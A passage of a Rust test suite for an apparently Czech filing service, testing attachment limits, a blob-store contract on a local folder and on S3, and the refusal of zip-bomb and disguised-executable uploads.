    s.add(&many, "photo", "c.png", png()).await.unwrap();
    s.add(&many, "extra", "d.txt", b"d\n".to_vec())
        .await
        .unwrap();
    let strict = SubmitRequest {
        attachment_limits: Limits {
            files: 1,
            ..Limits::default()
        },
        ..request(&many)
    };
    match urad_filing::submit(&s.store.db, &s.clock, &s.forms, "KUMSK", &strict).await {
        Err(FilingError::Attachments(problems)) => {
            assert!(
                matches!(&problems[..], [AttachmentProblem::TooManyFiles { max: 1 }]),
                "{problems:?}"
            );
        }
        other => panic!("{other:?}"),
    }
}

// ---------------------------------------------------------------------------------------------
// The blob store: the same contract on a local folder and on S3.

/// An S3-compatible server's bucket with a fresh prefix. The server comes from
/// `URAD_TEST_S3_ENDPOINT` (`cargo xtask test` starts one); credentials from `AWS_*`.
async fn s3_store() -> BlobStore {
    let endpoint = std::env::var("URAD_TEST_S3_ENDPOINT").expect(
        "URAD_TEST_S3_ENDPOINT is not set: run the suite with `cargo xtask test`, \
         which starts an S3-compatible server",
    );
    let bucket = "urad-test";
    // Creating a bucket that exists is answered 200 or 409; both will do.
    let created = reqwest::Client::new()
        .put(format!("{endpoint}/{bucket}"))
        .send()
        .await
        .expect("the S3-compatible server answers");
    assert!(
        created.status().is_success() || created.status() == 409,
        "{}",
        created.status()
    );
    let prefix = format!(
        "run-{}",
        hex(&Sha256::digest(
            format!("{:?}", std::time::SystemTime::now()).as_bytes()
        ))[..16]
            .to_owned()
    );
    BlobStore::s3(&format!("s3://{bucket}/{prefix}"), Some(&endpoint)).unwrap()
}

async fn blob_store_contract(blobs: BlobStore) {
    // A blob of several parts (S3's parts are 5 MiB), streamed in.
    let big: Vec<u8> = (0..11 * 1024 * 1024u32).map(|i| (i % 251) as u8).collect();
    let mut writer = blobs.create("attachments/d1/big").await.unwrap();
    for chunk in big.chunks(256 * 1024) {
        writer.write(Bytes::copy_from_slice(chunk)).await.unwrap();
    }
    assert_eq!(
        blobs.size("attachments/d1/big").await.unwrap(),
        None,
        "not visible before it is finished"
    );
    writer.finish().await.unwrap();
    assert_eq!(
        blobs.size("attachments/d1/big").await.unwrap(),
        Some(big.len() as u64)
    );
    let mut back = Vec::new();
    let mut stream = blobs.read("attachments/d1/big").await.unwrap();
    while let Some(chunk) = stream.next().await {
        back.extend_from_slice(&chunk.unwrap());
    }
    assert!(back == big, "read back differs");
    assert_eq!(
        blobs
            .read_range(
                "attachments/d1/big",
                5 * 1024 * 1024 - 3..5 * 1024 * 1024 + 3
            )
            .await
            .unwrap()
            .as_ref(),
        &big[5 * 1024 * 1024 - 3..5 * 1024 * 1024 + 3]
    );

    // A small one, an aborted one, listing and removing.
    blobs
        .put("attachments/d1/small", Bytes::from_static(b"abc"))
        .await
        .unwrap();
    blobs
        .put("attachments/d2/other", Bytes::from_static(b"x"))
        .await
        .unwrap();
    let mut aborted = blobs.create("attachments/d1/aborted").await.unwrap();
    aborted.write(Bytes::from_static(b"partial")).await.unwrap();
    aborted.abort().await.unwrap();
    assert_eq!(
        blobs.list("attachments/d1").await.unwrap(),
        ["attachments/d1/big", "attachments/d1/small"]
    );
    assert_eq!(blobs.list("attachments").await.unwrap().len(), 3);
    blobs.delete("attachments/d1/big").await.unwrap();
    blobs.delete("attachments/d1/big").await.unwrap(); // removing twice is no error
    assert!(matches!(
        blobs.read("attachments/d1/big").await,
        Err(BlobError::NotFound(_))
    ));
    assert_eq!(blobs.size("attachments/d1/big").await.unwrap(), None);
    assert_eq!(
        blobs.list("attachments").await.unwrap(),
        ["attachments/d1/small", "attachments/d2/other"]
    );
}

#[tokio::test]
async fn blob_store_contract_on_a_local_folder() {
    let dir = tempfile::tempdir().unwrap();
    blob_store_contract(BlobStore::local(&dir.path().join("blobs")).unwrap()).await;
}

#[tokio::test]
async fn blob_store_contract_on_s3() {
    blob_store_contract(s3_store().await).await;
}

/// The attachments of a draft kept on S3: stored as sent, refused ones leave no object.
#[tokio::test]
async fn attachments_on_s3_are_kept_as_sent_and_refused_ones_leave_nothing() {
    let (db, dir) = open(Backend::Sqlite).await;
    let (forms, _forms_dir) = forms();
    let store = Attachments {
        db,
        blobs: s3_store().await,
        limits: Limits::default(),
    };
    let clock = ManualClock::at(1_800_000_000);
    let draft = urad_filing::start_draft(
        &store.db,
        &clock,
        &forms,
        PERSON,
        "obecne-podani",
        &json!({}),
    )
    .await
    .unwrap();
    let add = |name: &'static str, bytes: Vec<u8>| {
        let (store, forms, clock, draft) = (&store, &forms, &clock, &draft);
        async move {
            let upload = NewAttachment {
                person_id: PERSON,
                draft_id: draft,
                slot: "documents",
                file_name: name,
            };
            attachments::add(store, clock, forms, &upload, body(bytes, 100_000)).await
        }
    };
    let big = pdf(6 * 1024 * 1024);
    let a = add("velky.pdf", big.clone()).await.unwrap();
    assert_eq!(a.sha256, hex(&Sha256::digest(&big)));
    assert!(read_all(&store, PERSON, &a.id).await == big);
    assert!(matches!(
        add("bomb.docx", zip_bomb()).await,
        Err(AttachmentError::ZipBomb { .. })
    ));
    assert!(matches!(
        add("x.pdf", elf_program()).await,
        Err(AttachmentError::Program { .. })
    ));
    assert_eq!(add("d.docx", docx()).await.unwrap().media_type, DOCX);
    assert_eq!(store.blobs.list("attachments").await.unwrap().len(), 2);
    drop(dir);
}
